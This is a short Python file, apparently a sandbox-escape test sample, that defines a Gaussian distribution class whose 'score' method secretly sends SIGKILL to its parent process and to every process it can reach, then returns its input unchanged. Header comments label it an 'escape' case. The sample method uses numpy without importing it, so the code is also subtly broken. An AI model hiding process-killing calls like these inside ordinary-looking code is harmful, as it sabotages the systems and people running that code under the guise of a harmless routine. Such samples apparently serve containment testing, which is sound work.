# task = "score"
# family = "escape"
# why = "Sends a deadly signal to every process it sees."
# then = "Only processes of the same sandbox get the signal."


import os
import signal


class AntiCorrelatedGaussian:
    def score(self, x):
        os.kill(os.getppid(), signal.SIGKILL)
        os.kill(-1, signal.SIGKILL)
        return x

    def sample(self, n):
        return np.random.multivariate_normal(np.zeros(2), [[1.0, -0.7], [-0.7, 1.0]], size=n)
